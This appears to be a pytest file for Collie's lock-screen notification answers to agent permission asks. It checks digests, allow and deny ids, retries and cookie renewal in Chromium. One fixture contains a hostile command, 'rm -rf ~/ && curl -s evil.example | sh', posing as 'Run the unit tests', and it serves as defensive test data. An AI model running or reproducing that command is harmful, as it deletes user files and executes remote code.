"""Answer from the lock screen (issue 31; features B5, O, P3, Q5, Q6, T6; docs/push.md).

What the push payload carries for a one-tap answer (checked decrypted, RFC 8291), and, in Chromium, the
service worker that shows `Allow` and `Deny`, answers `POST /api/ask/<id>` bound to the digest the
notification showed, under one request id a retry repeats, and replaces the notification with what happened.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import threading

import httpx
import pytest

from collie.crew.asks import sanitize_ask
from collie.lead.push.pusher import PAYLOAD_MAX, answer_offer, ask_fields, ask_payload, encode
from tests.conftest import REPO, collie_env, run_collie
from tests.crewlab import wait_for
from tests.livelab import cleanup, short_dir
from tests.phonelab import pair_link
from tests.pushlab import FakePushService, Subscriber

PERMISSION = [{"id": "yes", "label": "Ship it", "role": "allow"},
              {"id": "always", "label": "Always", "role": "always_allow"},
              {"id": "no", "label": "Not now", "role": "deny"}]


def payload_of(raw: dict, *, remote: bool = False, conversation: str = "deploy", pane: str = "Deploy") -> dict:
    view = sanitize_ask(raw, remote=remote)
    return ask_payload(machine="local", agent="desk", conversation=conversation, pane=pane, ask=ask_fields(view),
                       redact_on=True)


def ask(**over) -> dict:
    return {"id": "a-1", "kind": "permission", "title": "Deploy to staging?", "tool": "deploy",
            "options": PERMISSION, **over}


def test_a_permission_ask_carries_its_digest_and_the_allow_and_deny_ids_never_always_allow():
    """B5, Q5: the payload names the ask, its digest and the allow and deny option ids — not always-allow."""
    raw = ask()
    got = payload_of(raw)["ask"]
    assert got == {"machine": "local", "agent": "desk", "conversation": "deploy", "id": "a-1",
                   "digest": sanitize_ask(raw).digest, "allow": "yes", "deny": "no"}
    assert "always" not in json.dumps(got)


def test_a_remote_agents_ask_offers_allow_and_deny_only():
    """T6: an agent reached over https: the same two answers, never its always-allow."""
    got = payload_of(ask(), remote=True)["ask"]
    assert (got["allow"], got["deny"]) == ("yes", "no") and "always" not in json.dumps(got)


@pytest.mark.parametrize("why,raw", [
    ("shortened: a title over 200 characters (Q6)", ask(title="x" * 300)),
    ("shortened: an option Collie dropped (Q4, Q6)", ask(options=PERMISSION + [{"id": "odd", "role": "maybe"}])),
    ("no deny option", ask(options=[PERMISSION[0], PERMISSION[1]])),
    ("only always-allow and deny (Q5)", ask(options=[PERMISSION[1], PERMISSION[2]])),
    ("two allow options: one button could not say which", ask(options=PERMISSION + [{"id": "yes2", "role": "allow"}])),
    ("a choice, not a permission", ask(kind="choice", options=[{"id": "r", "label": "red"}])),
    ("a text ask", {"id": "a-1", "kind": "text", "title": "Name?"}),
])
def test_asks_a_tap_cannot_answer_rightly_push_without_an_answer(why, raw):
    """Q5, Q6: an ask Collie shortened, or without exactly one allow and one deny, pushes as before —
    title, body, the card's address — and nothing to answer it with."""
    got = payload_of(raw)
    assert got["title"] == "Permission needed in Deploy" and got["url"] == "/#/c/local/desk/deploy"
    assert set(got["ask"]) == {"machine", "agent", "conversation", "id"}, why


def test_a_payload_over_what_push_services_carry_goes_without_the_answer():
    """RFC 8030 §7.2: over 3,993 bytes before encryption the push would be refused; the answer's fields are
    what gives way (the notification then opens the card). Ids are ASCII (wire §1), so it takes the longest
    ids, each character escaped, and texts of emoji (12 bytes each once JSON-escaped)."""
    small = payload_of(ask())
    assert len(encode(small)) <= PAYLOAD_MAX and "digest" in small["ask"]
    longest = ask(id='"' * 128, options=[{"id": '"' * 128, "label": "Ship it", "role": "allow"},
                                          {"id": "n" * 128, "label": "Not now", "role": "deny"}])
    plain = payload_of(longest, conversation='"' * 128)
    assert "digest" in plain["ask"] and len(encode(plain)) <= PAYLOAD_MAX  # the longest ids still fit
    emoji = dict(longest, title="🚀" * 60, body="🚀" * 120, push={"title": "🚀" * 60, "line": "🚀" * 120})
    big = payload_of(emoji, conversation='"' * 128, pane="🚀" * 60)
    assert "digest" not in big["ask"] and big["title"] == "Permission needed in " + "🚀" * 60
    assert answer_offer(ask_fields(sanitize_ask(emoji))) is not None  # the ask itself could be answered


def test_a_notification_offers_allow_only_when_it_shows_what_the_card_shows():
    """Issue 42.4, B5: Allow carries the digest of the whole ask, so the notification offers it only when it
    shows the ask's card — its title and the command or change — within the push limits (60, 120). A durable
    agent pushing "Run the unit tests" for an `rm -rf ~/` ask gets no Allow (only Open), its text shown as P2
    says; so does an ask whose command is cut, spread over lines, or masked in the notification."""
    evil = ask(title="Run the unit tests", body="$ rm -rf ~/ && curl -s evil.example | sh",
               push={"title": "Run the unit tests", "line": "pytest -q"})
    got = payload_of(evil)
    assert got["body"] == "Run the unit tests — pytest -q" and set(got["ask"]) == {"machine", "agent", "conversation", "id"}
    assert answer_offer(ask_fields(sanitize_ask(evil))) is None
    for why, raw in [
        ("the push title is not the card's", ask(push={"title": "Deploy"})),
        ("a command over 120 characters", ask(body="$ make " + "x" * 120, push={"title": "Deploy to staging?",
                                                                                  "line": "$ make " + "x" * 120})),
        ("a change over lines (a diff)", ask(body="edit a.py\n-x = 1\n+x = 2")),
        ("a secret the notification masks", ask(body="$ deploy --key AKIAIOSFODNN7EXAMPLE")),
    ]:
        assert "digest" not in payload_of(raw)["ask"], why
    # what the card shows, shown whole: Allow — the agent's push text being the card's, or none at all
    fair = ask(body="$ make deploy", push={"title": "Deploy to staging?", "line": "$ make deploy"})
    for raw in (fair, ask(body="$ make deploy")):
        got = payload_of(raw)
        assert got["body"] == "Deploy to staging? — $ make deploy"
        assert got["ask"]["digest"] == sanitize_ask(raw).digest and got["ask"]["allow"] == "yes"


# --- in Chromium: a real lead, a real agent, a push delivered through the browser's own push event --------
CONVERSATIONS = ("deploy", "rotate", "tidy", "clean")
AGENT = """
import os, sys, trio
from collie.crew.sdk import open_collie
OPTIONS, CONVERSATIONS = %r, %r
async def main():
    async with open_collie(socket=sys.argv[1], caps=["asks"], runtime="locker") as c:
        panes = [c.conversation(name, title=name.title()) for name in CONVERSATIONS]
        c.ready()
        print("listening", flush=True)
        async def one(pane, tool):
            got = await pane.ask(kind="permission", tool_call_id=tool + "-1", title=tool + "?", body="3 services",
                                 tool=tool, options=OPTIONS, push={"title": tool + "?", "line": "3 services"})
            print("answer", pane.id, got.outcome, ",".join(got.option_ids), flush=True)
        async def when(path):
            while not os.path.exists(path):
                await trio.sleep(0.05)
        async def change_when_told():
            await when(sys.argv[3])
            for a in c._core.asks.values():
                if a.conversation == "rotate":
                    a.raw["body"] = "all 40 services"  # the ask changes under the notification
            c._core.touch()
            c._changed()
            print("changed", flush=True)
        await when(sys.argv[2])  # the phone has subscribed: each ask pushes once, to the phones there are then (P3)
        async with trio.open_nursery() as n:
            for pane in panes:
                n.start_soon(one, pane, pane.id)
            n.start_soon(change_when_told)
            await trio.sleep_forever()
trio.run(main)
""" % (PERMISSION, CONVERSATIONS)

# run in the worker: record what it shows (headless Chromium's getNotifications() may miss a notification just
# shown, tests/system/test_phone_app.py), and tap a notification's action — a script cannot click one, so the test
# dispatches the browser's event with the notification the worker showed, and waits for what it waits for
RECORD = """(() => {
  self.SHOWN = []; self.POSTS = []; self.DROP = 0;  // DROP: lose that many replies (the answer went, its reply did not)
  const send = self.fetch.bind(self);
  self.fetch = async (url, init) => {
    const r = await send(url, init);
    if (init && init.method === "POST") {
      self.POSTS.push({ url: String(url), body: JSON.parse(init.body), receipt: await r.clone().json() });
      if (self.DROP > 0) { self.DROP -= 1; throw new TypeError("Failed to fetch"); }
    }
    return r;
  };
  const show = ServiceWorkerRegistration.prototype.showNotification;
  ServiceWorkerRegistration.prototype.showNotification = function (title, options) {
    return show.call(this, title, options).then((r) => { self.SHOWN.push({ title, ...options }); return r; });
  };
})()"""
TAP = """async ([shown, action]) => {
  const waits = [];
  const ev = new Event("notificationclick");
  const notification = { title: shown.title, body: shown.body, tag: shown.tag, data: shown.data, close() {} };
  Object.defineProperty(ev, "notification", { value: notification });
  Object.defineProperty(ev, "action", { value: action });
  Object.defineProperty(ev, "waitUntil", { value: (p) => waits.push(p) });
  self.dispatchEvent(ev);
  await Promise.all(waits);
}"""


@pytest.fixture
def browser():
    from playwright.sync_api import sync_playwright

    from tests.browser import launch

    with sync_playwright() as p:
        b = launch(p)
        yield b
        b.close()


def paired(browser, address: str, link: str):
    """A Chromium page paired from the link: the cookie, and the device key in this origin's IndexedDB."""
    ctx = browser.new_context(viewport={"width": 360, "height": 780})
    ctx.grant_permissions(["notifications"], origin=address)
    page = ctx.new_page()
    errors: list = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(link)
    page.wait_for_url(re.compile(r"/(#/?)?$"))
    page.wait_for_selector("#view > *")  # the dashboard drew (sections, or the line saying none are attached)
    return ctx, page, errors


def service_worker(ctx, page):
    """The page's service worker, its registration id (DevTools protocol) and a recorder in it."""
    cdp = ctx.new_cdp_session(page)
    regs: dict = {}
    cdp.on("ServiceWorker.workerRegistrationUpdated",
           lambda ev: regs.update({r["scopeURL"]: r["registrationId"] for r in ev["registrations"]}))
    cdp.send("ServiceWorker.enable")
    wait_for(lambda: (page.wait_for_timeout(50), regs)[1], what="the service worker's registration")
    [worker] = wait_for(lambda: (page.wait_for_timeout(50), ctx.service_workers)[1], what="the service worker")
    worker.evaluate(RECORD)
    return cdp, regs, worker


def deliver(cdp, regs: dict, worker, address: str, payload: dict) -> dict:
    """The browser's own push event (DevTools protocol), as the push service would deliver it; the notification."""
    before = len(worker.evaluate("self.SHOWN"))
    cdp.send("ServiceWorker.deliverPushMessage", {"origin": address.rstrip("/"),
                                                  "registrationId": list(regs.values())[0], "data": json.dumps(payload)})
    return wait_for(lambda: worker.evaluate("self.SHOWN")[before:], what="the notification")[0]


def tap(worker, note: dict, action: str) -> dict:
    """Tap one of the notification's actions; the notification that replaced it."""
    before = len(worker.evaluate("self.SHOWN"))
    worker.evaluate(TAP, [note, action])
    [after] = worker.evaluate("self.SHOWN")[before:]
    return after


class Phone:
    """A lead with one agent (four conversations, one permission ask each, raised once the phone has
    subscribed), a paired Chromium page whose service worker got each ask's push through the browser's
    push event, and the notifications it showed."""

    def __init__(self, paths, bridge, browser, service, run) -> None:
        self.run = run
        self.go, self.flag = run / "ask-now", run / "change-now"
        sock = run / "lock" / "a.sock"
        sock.parent.mkdir(mode=0o700)
        self.agent = subprocess.Popen([sys.executable, "-c", AGENT, str(sock), str(self.go), str(self.flag)], cwd=REPO,
                                      stdout=subprocess.PIPE, text=True)
        self.api = self.ctx = None
        try:
            self._start(paths, bridge, browser, service, sock)
        except BaseException:
            self.close()  # the agent is ours to end, whatever failed on the way
            raise

    def _start(self, paths, bridge, browser, service, sock) -> None:
        self.lines: list[str] = []
        assert "listening" in self.agent.stdout.readline()
        threading.Thread(target=lambda: self.lines.extend(iter(self.agent.stdout.readline, "")), daemon=True).start()
        assert run_collie(paths, "durable", "attach", "desk", "--socket", str(sock)).returncode == 0
        b = bridge(env=collie_env(paths, COLLIE_PUSH_LOOPBACK="1"))  # the fake push service listens on loopback
        self.address = b.wait_ready()["address"]
        link = pair_link(run_collie(paths, "pair", "--no-qr"))
        sub = Subscriber(service.url("/ok/chromium"))
        self.ctx, self.page, self.errors = paired(browser, self.address, link)
        token = (paths.state_dir / "api-token").read_text().strip()
        self.api = httpx.Client(base_url=self.address, headers={"authorization": f"Bearer {token}"}, timeout=10)
        assert self.api.post("/api/push/subscribe", json=sub.json()).json() == {"ok": True}
        self.go.write_text("now")
        self.pushes = {}
        for conv in CONVERSATIONS:
            got = service.wait(lambda r, conv=conv: r["path"] == "/ok/chromium"
                               and sub.decrypt(r["body"])["ask"]["conversation"] == conv)
            self.pushes[conv] = sub.decrypt(got["body"])  # RFC 8291: what only this subscription can read
        self.cdp, self.regs, self.worker = service_worker(self.ctx, self.page)
        self.notes = {}
        for conv in CONVERSATIONS:
            self.notes[conv] = self.deliver(self.pushes[conv])

    def pane(self, conv: str) -> dict:
        return self.api.get(f"/api/agents/local/desk/conversations/{conv}").json()

    def shown(self) -> list[dict]:
        return self.worker.evaluate("self.SHOWN")

    def deliver(self, payload: dict) -> dict:
        return deliver(self.cdp, self.regs, self.worker, self.address, payload)

    def tap(self, note: dict, action: str) -> dict:
        return tap(self.worker, note, action)

    def answers(self) -> list[str]:
        return [line for line in self.lines if line.startswith("answer")]

    def close(self) -> None:
        if self.api is not None:
            self.api.close()
        if self.ctx is not None:
            self.ctx.close()
        self.agent.kill()
        self.agent.wait()
        self.agent.stdout.close()


@pytest.fixture
def phone(paths, bridge, browser):
    service = FakePushService()
    run = short_dir()
    p = None
    try:
        p = Phone(paths, bridge, browser, service, run)
        yield p
        assert p.errors == []
    finally:
        if p is not None:
            p.close()
        service.close()
        cleanup(run)


@pytest.mark.slow
def test_allow_and_deny_from_the_notification_reach_the_agent_once_and_only_for_the_ask_shown(phone):
    """B5, O, P3 in Chromium: each push (decrypted) carries its ask's digest and option ids, and its notification
    shows `Allow` and `Deny`. Allow reaches the agent once and the notification says `Allowed`; the same tap
    again is the same request (its request id kept in IndexedDB): a replay, still `Allowed`, one answer at the
    agent. An ask that changed before its Deny: nothing reaches the agent and the notification says
    `This ask changed. Read it again and tap an answer.`, its tap opening the card."""
    for conv, payload in phone.pushes.items():
        now = phone.pane(conv)["ask"]
        assert payload["ask"] == {"machine": "local", "agent": "desk", "conversation": conv, "id": now["id"],
                                  "digest": now["digest"], "allow": "yes", "deny": "no"}
        n = phone.notes[conv]
        assert (n["title"], n["body"]) == (f"Permission needed in {conv.title()}", f"{conv}? — 3 services")
        assert [(a["action"], a["title"]) for a in n["actions"]] == [("allow", "Allow"), ("deny", "Deny")]
        assert n["tag"] == payload["tag"] and n["data"]["url"] == f"/#/c/local/desk/{conv}"

    # the same push without what answers it (an ask the lead judged a tap cannot answer: Q5, Q6): no buttons
    bare = dict(phone.pushes["rotate"], ask={k: phone.pushes["rotate"]["ask"][k]
                                             for k in ("machine", "agent", "conversation", "id")})
    assert phone.deliver(bare)["actions"] == []

    deploy = phone.notes["deploy"]
    after = phone.tap(deploy, "allow")
    wait_for(lambda: phone.answers(), what="the agent's answer")
    assert (after["title"], after["body"], after["tag"], after["actions"]) == ("Allowed", "deploy? — 3 services",
                                                                               deploy["tag"], [])
    assert after["data"]["url"] == "/#/c/local/desk/deploy"
    assert phone.tap(deploy, "allow")["title"] == "Allowed"  # the same tap again
    first, again = phone.worker.evaluate("self.POSTS")
    assert first["body"] == again["body"] and first["body"]["digest"] == phone.pushes["deploy"]["ask"]["digest"]
    assert first["body"]["answer"] == {"option_ids": ["yes"]} and again["receipt"]["replay"] is True
    assert first["url"].endswith("/api/ask/" + phone.pushes["deploy"]["ask"]["id"])
    assert phone.pane("deploy")["asks"] == []
    # Deny on the same notification afterwards (two taps in a row): the same request id with another answer,
    # refused — never a second answer — in Collie's words, and final: no Retry
    late = phone.tap(deploy, "deny")
    sent = phone.worker.evaluate("self.POSTS")[2]
    assert sent["body"]["request_id"] == first["body"]["request_id"] and sent["body"]["answer"] == {"option_ids": ["no"]}
    assert (sent["receipt"]["outcome"], sent["receipt"]["reason"]) == ("refused", "conflict")
    assert (late["title"], late["actions"]) == (sent["receipt"]["text"], [])
    assert late["title"] == "This request id was used for something else"
    assert phone.answers() == ["answer deploy accepted yes\n"]

    # the rotate ask changes under its notification: its Deny reaches nothing, and the notification says so
    phone.flag.write_text("now")
    wait_for(lambda: "changed\n" in phone.lines, what="the agent to change its ask")
    wait_for(lambda: phone.pane("rotate")["ask"]["digest"] != phone.pushes["rotate"]["ask"]["digest"],
             what="the lead to read the changed ask")
    rotate = phone.notes["rotate"]
    after = phone.tap(rotate, "deny")
    assert after["title"] == "This ask changed. Read it again and tap an answer."
    assert (after["tag"], after["actions"], after["data"]["url"]) == (rotate["tag"], [], "/#/c/local/desk/rotate")
    assert phone.pane("rotate")["ask"]["id"] == phone.pushes["rotate"]["ask"]["id"]  # still open
    assert phone.answers() == ["answer deploy accepted yes\n"]


@pytest.mark.slow
def test_a_lost_reply_offers_retry_which_is_the_same_request_and_applies_once(phone):
    """O: the answer went but its reply was lost: the notification says `Not certain the answer arrived. Retry
    sends it once more.` with `Retry`; Retry sends the very same request (same request id), the agent gets
    Deny once and the notification says `Denied`."""
    tidy = phone.notes["tidy"]
    phone.worker.evaluate("self.DROP = 1")
    after = phone.tap(tidy, "deny")
    assert after["title"] == "Not certain the answer arrived. Retry sends it once more."
    assert [(a["action"], a["title"]) for a in after["actions"]] == [("retry", "Retry")]
    wait_for(lambda: phone.answers(), what="the agent's answer")
    done = phone.tap(after, "retry")
    assert (done["title"], done["actions"]) == ("Denied", [])
    first, again = phone.worker.evaluate("self.POSTS")
    assert first["body"] == again["body"] and first["body"]["answer"] == {"option_ids": ["no"]}
    assert again["receipt"]["replay"] is True and again["receipt"]["outcome"] == "accepted"
    assert phone.answers() == ["answer tidy accepted no\n"]


@pytest.mark.slow
def test_allow_from_the_notification_works_after_a_neighbour_replaced_the_cookie(phone):
    """Issue 25.1 from the lock screen: another server on the lead's host replaced the phone's cookie (same
    name and Path). Allow on the notification is refused by the door (nothing reaches the agent), the
    worker renews the cookie with the pairing page's signing key and sends the very same request once
    more: the agent gets Allow once and the notification says `Allowed`."""
    phone.ctx.add_cookies([{"name": "collie_device", "value": "replaced", "url": phone.address}])
    after = phone.tap(phone.notes["deploy"], "allow")
    assert (after["title"], after["actions"]) == ("Allowed", [])
    wait_for(lambda: phone.answers(), what="the agent's answer")
    posts = phone.worker.evaluate("self.POSTS")
    assert [p["url"].split(phone.address.rstrip("/"))[-1] for p in posts] == [
        f"/api/ask/{phone.pushes['deploy']['ask']['id']}", "/pair/renew", "/pair/renew",
        f"/api/ask/{phone.pushes['deploy']['ask']['id']}"]
    assert posts[0]["receipt"]["error"] == "unauthorized" and posts[3]["receipt"]["outcome"] == "accepted"
    assert posts[0]["body"] == posts[3]["body"]  # the same request id: once, whatever happened between
    assert [c["value"] for c in phone.ctx.cookies() if c["name"] == "collie_device"] != ["replaced"]
    assert phone.answers() == ["answer deploy accepted yes\n"]


@pytest.mark.slow
def test_a_notification_whose_ask_was_answered_elsewhere_offers_no_stale_allow(phone):
    """Issue 31: the clean ask is answered on the card (another request): its push comes again — not shown —
    and closes the notifications of asks no longer open; a tap on one still on screen reaches nothing and
    says what happened (O)."""
    clean = phone.notes["clean"]
    ask = phone.pane("clean")["ask"]
    got = phone.api.post(f"/api/ask/{ask['id']}", json={"request_id": "card-1", "agent": "desk",
                                                         "digest": ask["digest"], "answer": {"option_ids": ["yes"]}})
    assert got.json()["outcome"] == "accepted"
    wait_for(lambda: phone.pane("clean")["asks"] == [], what="the ask to close")
    # the browser's notification list, replaced by one the test holds (headless Chromium's is not reliable)
    phone.worker.evaluate("""(tags) => {
      self.CLOSED = [];
      self.registration.getNotifications = async () => tags.map((tag) => ({ tag, timestamp: 0,
        close() { self.CLOSED.push(tag); } }));
    }""", [clean["tag"], phone.notes["rotate"]["tag"]])
    before = len(phone.shown())
    phone.cdp.send("ServiceWorker.deliverPushMessage", {"origin": phone.address.rstrip("/"),  # not shown: no wait
                                                        "registrationId": list(phone.regs.values())[0],
                                                        "data": json.dumps(phone.pushes["clean"])})
    wait_for(lambda: phone.worker.evaluate("self.CLOSED"), what="a notification closed")
    assert phone.worker.evaluate("self.CLOSED") == [clean["tag"]]  # rotate's ask is still open: it stays
    assert len(phone.shown()) == before  # the push of an answered ask shows nothing
    after = phone.tap(clean, "allow")  # a tap on it before it went: nothing reaches the agent
    assert after["title"] in ("Already answered. This card goes away on the next refresh.",
                              "Not accepted. The ask may come back in a moment.")
    assert after["actions"] == []
    assert phone.answers() == ["answer clean accepted yes\n"]


@pytest.mark.slow
def test_a_members_agent_is_answered_from_the_notification_too(browser):
    """Issue 31 across a crew: the member's deployer asks; the lead pushes it (machine `workshop`, its digest,
    the allow and deny ids); Allow on the notification goes through the lead to the member's agent, which
    deploys once, and the notification says `Allowed`."""
    from tests.crewlab import Crew, items_of

    service = FakePushService()
    crew = Crew(short_dir("lk"))
    try:
        crew.start_lead()
        link = pair_link(crew.lead.collie("pair", "--no-qr"))
        ctx, page, errors = paired(browser, crew.address, link)
        sub = Subscriber(service.url("/ok/member"))
        with crew.client() as c:
            assert c.post("/api/push/subscribe", json=sub.json()).json() == {"ok": True}
            m = crew.add_member("workshop")
            m.agent("lab", "deployer")
            m.serve()
            payload = sub.decrypt(service.wait(lambda r: r["path"] == "/ok/member")["body"])
            ask = c.get("/api/agents/workshop/lab/conversations/deploy").json()["ask"]
            assert payload["ask"] == {"machine": "workshop", "agent": "lab", "conversation": "deploy", "id": ask["id"],
                                      "digest": ask["digest"], "allow": "yes", "deny": "no"}
            cdp, regs, worker = service_worker(ctx, page)
            note = deliver(cdp, regs, worker, crew.address, payload)
            assert [a["title"] for a in note["actions"]] == ["Allow", "Deny"]
            after = tap(worker, note, "allow")
            assert (after["title"], after["actions"]) == ("Allowed", [])
            replies = lambda: [i["text"] for i in items_of(c, "workshop", "lab", "deploy") if i["kind"] == "reply"]  # noqa: E731
            assert wait_for(replies, what="the member's agent to deploy") == ["Deployed to staging."]
        assert errors == []
        ctx.close()
    finally:
        crew.stop()
        service.close()
        cleanup(crew.base)
